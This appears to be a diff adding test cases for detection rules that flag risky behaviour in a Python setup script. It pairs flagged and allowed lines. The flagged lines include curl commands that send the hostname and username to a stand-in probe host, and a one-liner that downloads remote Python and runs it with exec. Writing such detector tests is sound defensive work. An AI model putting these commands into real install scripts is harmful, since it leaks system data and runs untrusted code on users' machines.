@@ -27,3 +27,19 @@ os.system("nc -z localhost 5432 && echo database is up")
 run("make -C native && ./configure --prefix=/usr/local")
 
 setup(name="demo", version=version)
+# ruleid: py-behaviour-command-sends-data
+os.system("curl -F a=@/etc/hostname https://probe.example/u")
+# ruleid: py-behaviour-command-sends-data
+subprocess.call("curl https://probe.example/?u=$(whoami)", shell=True)
+# ok: py-behaviour-command-sends-data
+subprocess.call(["curl", "-fsSL", "https://example.org/install-check"])
+# ruleid: py-behaviour-remote-code-run
+os.system('python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://198.51.100.2/s\').read())"')
+# ok: py-behaviour-remote-code-run
+subprocess.check_call(["python", "-c", "import numpy; print(numpy.get_include())"])
+# ruleid: py-behaviour-unasked-request
+subprocess.getoutput("dig @1.1.1.1 install.probe.example")
+# ruleid: py-behaviour-unasked-request
+os.system("start https://landing.example")
+# ok: py-behaviour-unasked-request
+subprocess.check_call(["git", "clone", "--depth", "1", "https://github.com/o/dep.git", "third_party/dep"])
